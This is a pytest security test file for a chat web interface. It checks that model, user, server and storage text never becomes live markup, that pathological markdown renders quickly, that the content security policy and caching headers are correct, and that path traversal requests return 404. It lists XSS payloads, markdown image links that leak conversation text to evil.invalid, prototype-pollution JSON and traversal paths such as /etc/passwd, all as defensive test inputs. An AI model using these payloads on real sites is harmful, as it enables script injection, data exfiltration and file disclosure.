"""What a model, a user, the server or the storage says is text on the page, whatever it looks like."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Callable

import pytest

from browser import Visitor
from served import Server

pytestmark = pytest.mark.timeout(120)

Visit = Callable[..., Visitor]

PROBES = [
    "<img src=x onerror=pwned()>",
    "<script>pwned()</script>",
    '"><svg/onload=pwned()>',
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "![secret](https://evil.invalid/?q=the+conversation)",
    "![secret][1]\n\n[1]: https://evil.invalid/x.png",
    "[click](javascript:pwned())",
    "[click](JaVaScRiPt:pwned())",
    "[click](&#106;avascript:pwned())",
    "[click](data:text/html,<script>pwned()</script>)",
    "[click](vbscript:pwned())",
    '[a](https://ok.invalid/"onmouseover="pwned())',
    '<https://evil.invalid/"onclick=pwned()>',
    "```html\n<script>pwned()</script>\n```",
    '```" onmouseover=pwned() x="\ncode\n```',
    "`<img src=x onerror=pwned()>`",
    "| <img src=x onerror=pwned()> |\n| --- |\n| <style>body{display:none}</style> |",
    "<style>@import 'https://evil.invalid/x.css';</style><link rel=stylesheet href=https://evil.invalid/y.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<form action=https://evil.invalid><input name=q></form>",
    "<a href=javascript:pwned() id=main name=model>clobber</a>",
    "\u202egnp.exe\u202c \u0000 \ufeff \ud83d",
]
FOREIGN = "img, script, style, iframe, svg:not(.icon), link, meta, form, object, embed, [onerror], [onclick]"
SLOW = (
    "*",
    "**a",
    "[",
    "![",
    "`",
    "_a",
    "> ",
    "- ",
    "1. ",
    "|",
    "~~",
    "<h",
    "# ",
    " ",
    "[a](",
    "``` `",
    "http://",
)
STORED = {
    "broken": "{",
    "null": "null",
    "loop": '{"id": "loop", "chosen": {"root": "a", "a": "a"},'
    ' "messages": {"a": {"id": "a", "parent": "a", "role": "user", "content": ""}}}',
    "system": '{"id": "system", "chosen": {"root": "a"},'
    ' "messages": {"a": {"id": "a", "parent": "root", "role": "system", "content": ""}}}',
    "other": '{"id": "proto", "messages": {}, "chosen": {}}',
    "proto": '{"id": "proto", "messages": {"__proto__": {"x": 1}}, "chosen": {"root": "constructor"}}',
    "evil": json.dumps(
        {
            "id": "evil",
            "title": PROBES[0],
            "chosen": {"root": "m", "m": "n"},
            "messages": {
                "m": {"id": "m", "parent": "root", "role": "user", "content": PROBES[2]},
                "n": {
                    "id": "n",
                    "parent": "m",
                    "role": "assistant",
                    "content": "\n\n".join(PROBES[:-1]),
                    "state": "failed",
                    "error": PROBES[1],
                    "model": PROBES[2],
                    "usage": {"prompt": PROBES[0], "generated": PROBES[0]},
                },
            },
        }
    ),
}


def foreign(visitor: Visitor) -> list[str]:
    """Elements that only markup in a text could have made, and links that lead where none may."""
    return visitor.page.evaluate(
        f"""[...document.querySelectorAll("#transcript :is({FOREIGN}), #conversations :is({FOREIGN})"),
            ...document.querySelectorAll("#transcript a:not([href^=http], [href^=mailto])")]
           .map((one) => one.outerHTML)"""
    )


def test_text_of_a_model_or_a_user_never_becomes_markup(visit: Visit) -> None:
    visitor = visit()
    visitor.page.evaluate("void (window.pwned = () => { window.isPwned = true; })")
    for probe in PROBES:
        visitor.answer_with(probe)
        visitor.say(probe)
    visitor.page.evaluate(
        """for (const link of document.querySelectorAll("#transcript a"))
           link.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}))"""
    )
    assert foreign(visitor) == []
    assert visitor.page.evaluate("window.isPwned") is None
    shown = "\n".join(visitor.texts("assistant"))
    assert "<img src=x onerror=pwned()>" in shown, "it is shown, as text"
    assert "[image: secret]" in shown
    visitor.page.reload()
    assert foreign(visitor) == []


def test_nor_does_what_the_server_or_the_storage_says(visit: Visit) -> None:
    visitor = visit()
    page = visitor.page
    page.evaluate("void (window.pwned = () => { window.isPwned = true; })")
    visitor.answer_with("", status=400, error={"message": PROBES[0], "code": None})
    visitor.say("Hello")
    assert page.locator(".message-note.failure").inner_text() == PROBES[0]
    settings = '{"values": {"temperature": "<b>"}, "model": 3}'
    entries = {f"tercet.conversation.{name}": text for name, text in STORED.items()}
    page.evaluate(
        "(all) => Object.entries(all).forEach(([name, text]) => localStorage.setItem(name, text))",
        {**entries, "tercet.settings": settings},
    )
    page.reload()
    page.wait_for_selector("#conversations li")
    for name in STORED:
        page.evaluate("(name) => { location.hash = `#/c/${name}`; }", name)
        page.wait_for_timeout(30)
    assert visitor.texts("user") == [PROBES[2]]
    assert PROBES[1] in page.locator(".message-note.failure").inner_text()
    assert foreign(visitor) == []
    assert page.evaluate("window.isPwned") is None


def test_a_text_made_to_be_slow_is_drawn_at_once(visit: Visit) -> None:
    page = visit().page
    address = page.get_attribute("link[href$='render.js']", "href")
    page.evaluate(
        "(address) => import(address).then(({renderMarkdown}) => void (window.draw = renderMarkdown))",
        address,
    )
    for probe in SLOW:
        long = probe * (19_990 // len(probe))  # beyond 20,000 characters a paragraph is shown plain
        for text in (long, f"{probe}\n" * 1500, f"# a{long}b", f"| {long}\n|-"):
            milliseconds = page.evaluate(
                """(text) => {
                  const start = performance.now();
                  window.draw(document.createElement("div"), text);
                  return performance.now() - start;
                }""",
                text,
            )
            assert milliseconds < 6000, f"{probe!r} took {milliseconds:.0f} ms"


def test_files_are_answered_with_the_policy_and_kept_by_browsers(serving: Server) -> None:
    with serving.client() as client:
        index = client.get("/")
        assert index.headers["content-type"] == "text/html; charset=utf-8"
        policy = index.headers["content-security-policy"]
        assert policy.startswith("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'")
        assert "unsafe" not in policy
        assert "require-trusted-types-for 'script'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "<script>" not in index.text
        assert "style=" not in index.text
        assert "http" not in index.text.replace("http-equiv", "")
        links = re.findall(r'(?:src|href)="(/[^"]+)"', index.text)
        assert len(links) > 25
        for path in ("/", *links):
            first = client.get(path)
            assert first.status_code == 200, path
            assert first.headers["x-content-type-options"] == "nosniff"
            kept = "no-cache" if path == "/" else "public, max-age=31536000, immutable"
            assert first.headers["cache-control"] == kept
            again = client.get(path, headers={"If-None-Match": f'"other", W/{first.headers["etag"]}'})
            assert (again.status_code, again.content) == (304, b"")
            assert again.headers["etag"] == first.headers["etag"]
        changed = client.get(path, headers={"If-None-Match": '"other"'})
        assert (changed.status_code, changed.content) == (200, first.content)
        head = client.head(path)
        assert (head.status_code, head.content) == (200, b"")
        assert head.headers["content-length"] == str(len(first.content))
        assert client.post("/").status_code == 405


def test_every_module_is_loaded_at_once_and_not_one_after_the_other(serving: Server) -> None:
    """index.html names every module that the first one needs, however deep, for the browser to fetch."""
    with serving.client() as client:
        index = client.get("/").text
        named = set(re.findall(r'rel="modulepreload" href="([^"]+)"', index))
        (first,) = re.findall(r'type="module" src="([^"]+)"', index)
        needed, found = [first], {first}
        for path in needed:
            imports = re.findall(
                r'^import [^;]*?from "(\.[^"]+)";$', client.get(path).text, flags=re.M | re.S
            )
            for one in imports:
                other = str(client.base_url.join(path).join(one).path)
                if other not in found:
                    found.add(other)
                    needed.append(other)
        assert found == named | {first}
        lazy = [path for path in found if "uPlot" in path or "charts" in path]
        assert lazy == [], "the chart library is for who looks at the dashboard"


def test_nothing_but_the_files_of_the_page_can_be_asked_for(serving: Server) -> None:
    with serving.client() as client:
        (folder,) = set(re.findall(r'"(/page/\w+/)', client.get("/").text))
    for path in (
        "../routes.py",
        "..%2froutes.py",
        "%2e%2e/%2e%2e/app.py",
        "scripts/../../../routes.py",
        "/etc/passwd",
        "scripts/",
        "",
        "index.html",
        "vendor/uplot/LICENSE",
        "scripts/main.js%00.css",
        "scripts\\main.js",
        "../scripts/main.js",
    ):
        with socket.create_connection(("127.0.0.1", serving.port), timeout=10) as connection:
            request = f"GET {folder}{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
            connection.sendall(request.encode())
            status = connection.makefile("rb").readline()
        assert status.split()[1] == b"404", (path, status)
